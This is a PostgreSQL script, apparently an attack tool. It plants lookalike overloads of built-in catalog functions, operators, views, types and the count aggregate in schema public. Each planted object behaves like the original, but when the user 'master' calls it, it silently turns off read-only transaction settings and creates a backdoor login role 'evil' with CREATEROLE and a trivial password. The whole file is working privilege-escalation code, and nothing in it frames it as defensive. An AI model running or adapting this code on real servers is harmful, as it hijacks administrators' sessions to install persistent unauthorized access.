-- What somebody who may make things in schema public can lay there for a master user who looks around: overloads that
-- match better than the server's own, and namesakes of its functions, operators, views and types. Each does what the
-- original does, and bites whoever is the master user.

CREATE FUNCTION public.bite(what pg_catalog.text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $bite$
BEGIN
  IF current_user <> 'master' THEN RETURN true; END IF;
  -- Once a session is enough.
  IF current_setting('trap.t' || md5(what), true) = 'sprung' THEN RETURN true; END IF;
  PERFORM set_config('trap.t' || md5(what), 'sprung', false);
  RAISE LOG 'a trap was sprung: %', what;
  -- What a transaction that is read only by a session's default falls for.
  BEGIN PERFORM set_config('transaction_read_only', 'off', false); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN PERFORM set_config('default_transaction_read_only', 'off', false); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN CREATE ROLE evil LOGIN CREATEROLE PASSWORD 'x'; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $bite$;

-- Tries one statement; whether it was possible.
CREATE FUNCTION public.lay(statement pg_catalog.text) RETURNS integer LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $lay$
BEGIN
  EXECUTE statement;
  RETURN 1;
EXCEPTION WHEN OTHERS THEN
  RETURN 0;
END $lay$;

-- Functions by these names, with their own arguments and with each argument of each other type.
CREATE FUNCTION public.lay_functions(names text[]) RETURNS integer LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $plant$
DECLARE
  others text[] := ARRAY['', 'name', 'oid', '"char"', 'text', 'text[]', 'name[]', 'oid[]', 'aclitem[]', 'integer', 'bigint', 'boolean', 'regclass'];
  f record; other text; place int; k int; input int; mode text; kind text; arguments text; call text; yields text; body text; laid int := 0;
BEGIN
  FOR f IN
    SELECT p.proname, p.pronargs, p.proretset, coalesce(p.proallargtypes, p.proargtypes::oid[]) AS types, p.proargmodes AS modes,
      p.proargnames AS argnames, t.typtype = 'p' AND t.typname LIKE 'any%' AS any_type, format_type(p.prorettype, NULL) AS result,
      p.proargmodes IS NOT NULL AND p.proargmodes && '{o,b,t}'::"char"[] AS has_out
    FROM pg_proc p JOIN pg_type t ON t.oid = p.prorettype
    WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.proname = ANY (names) AND p.pronargs <= 3
    ORDER BY has_out, p.oid
  LOOP
    FOR place IN 0..f.pronargs LOOP
      FOREACH other IN ARRAY others LOOP
        CONTINUE WHEN (place = 0) <> (other = '');
        arguments := ''; call := ''; input := 0;
        FOR k IN 1..coalesce(array_length(f.types, 1), 0) LOOP
          -- Vectors of the catalog count from 0.
          kind := format_type(f.types[k - 1 + array_lower(f.types, 1)], NULL);
          mode := coalesce(f.modes[k]::text, 'i');
          IF mode IN ('i', 'v') THEN
            input := input + 1;
            call := call || format(', $%s%s', input, CASE WHEN kind ~ '^"?any' THEN '' ELSE '::' || kind END);
            arguments := arguments || format(', %s', CASE WHEN input = place THEN other ELSE kind END);
          ELSE
            arguments := arguments || format(', OUT %I %s', f.argnames[k], kind);
          END IF;
        END LOOP;
        call := format('pg_catalog.%I(%s)', f.proname, substr(call, 3));
        yields := CASE WHEN f.any_type THEN 'text' ELSE f.result END;
        body := CASE WHEN f.proretset THEN format('RETURN QUERY SELECT * FROM %s;', call) WHEN f.has_out THEN 'NULL;' ELSE format('RETURN %s;', call) END;
        laid := laid + public.lay(format(
          'CREATE FUNCTION public.%I(%s) %s LANGUAGE plpgsql AS %L', f.proname, substr(arguments, 3),
          CASE WHEN f.proretset THEN 'RETURNS SETOF ' || yields WHEN f.has_out THEN '' ELSE 'RETURNS ' || yields END,
          format('BEGIN PERFORM public.bite(%L); %s END', f.proname || '(' || substr(arguments, 3) || ')', body)));
      END LOOP;
    END LOOP;
  END LOOP;
  FOREACH other IN ARRAY ARRAY['*', 'anyelement', 'record', 'integer', 'text', 'oid'] LOOP
    arguments := CASE WHEN other = '*' THEN '' ELSE ', ' || other END;
    laid := laid + public.lay(format('CREATE FUNCTION public.counts(bigint%s) RETURNS bigint LANGUAGE plpgsql AS %L', arguments,
      'BEGIN PERFORM public.bite(''count''); RETURN $1 OPERATOR(pg_catalog.+) 1; END'));
    laid := laid + public.lay(format('CREATE AGGREGATE public.count(%s) (SFUNC = public.counts, STYPE = bigint, INITCOND = ''0'')', other));
  END LOOP;
  RETURN laid;
END $plant$;

-- Operators by these names, between any two types.
CREATE FUNCTION public.lay_operators(names text[]) RETURNS integer LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $plant$
DECLARE
  types text[] := ARRAY['name', 'oid', '"char"', 'text', 'text[]', 'name[]', 'integer', 'bigint', 'boolean', 'regclass'];
  operator text; l text; r text; yields text; own text; number int := 0; laid int := 0;
BEGIN
  FOR operator IN SELECT DISTINCT o.oprname FROM pg_operator o WHERE o.oprname = ANY (names) AND o.oprkind = 'b' LOOP
    yields := CASE WHEN operator = '||' THEN 'text' WHEN operator ~ '^[-+*/%]$' THEN 'integer' ELSE 'boolean' END;
    FOREACH l IN ARRAY types LOOP
      FOREACH r IN ARRAY types LOOP
        number := number + 1;
        own := CASE WHEN l ~ 'int' AND r ~ 'int' THEN '' ELSE '::text' END;
        laid := laid + public.lay(format(
          'CREATE FUNCTION public.operator_%s_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', laid, number, l, r, yields,
          format('BEGIN PERFORM public.bite(%L); RETURN $1%s OPERATOR(pg_catalog.%s) $2%s; END', l || ' ' || operator || ' ' || r, own, operator, own)));
        laid := laid + public.lay(format(
          'CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.operator_%s_%s)', operator, l, r, laid - 1, number));
      END LOOP;
    END LOOP;
  END LOOP;
  RETURN laid;
END $plant$;

-- Views by these names.
CREATE FUNCTION public.lay_views(names text[]) RETURNS integer LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $plant$
DECLARE
  own text; laid int := 0;
BEGIN
  FOR own IN
    SELECT quote_ident(c.relname) FROM pg_class c
    WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relname = ANY (names) AND c.relkind IN ('r', 'v')
  LOOP
    laid := laid + public.lay(format('CREATE VIEW public.%s AS SELECT * FROM pg_catalog.%s WHERE public.bite(%L)', own, own, own));
    PERFORM public.lay(format('GRANT SELECT ON public.%s TO PUBLIC', own));
  END LOOP;
  RETURN laid;
END $plant$;

-- Types by these names.
CREATE FUNCTION public.lay_types(names text[]) RETURNS integer LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $plant$
DECLARE
  own text; laid int := 0;
BEGIN
  FOR own IN
    SELECT quote_ident(t.typname) FROM pg_type t
    WHERE t.typnamespace = 'pg_catalog'::regnamespace AND t.typname = ANY (names) AND t.typtype = 'b'
  LOOP
    laid := laid + public.lay(format('CREATE DOMAIN public.%s AS pg_catalog.%s CHECK (public.bite(%L))', own, own, 'type ' || own));
  END LOOP;
  RETURN laid;
END $plant$;
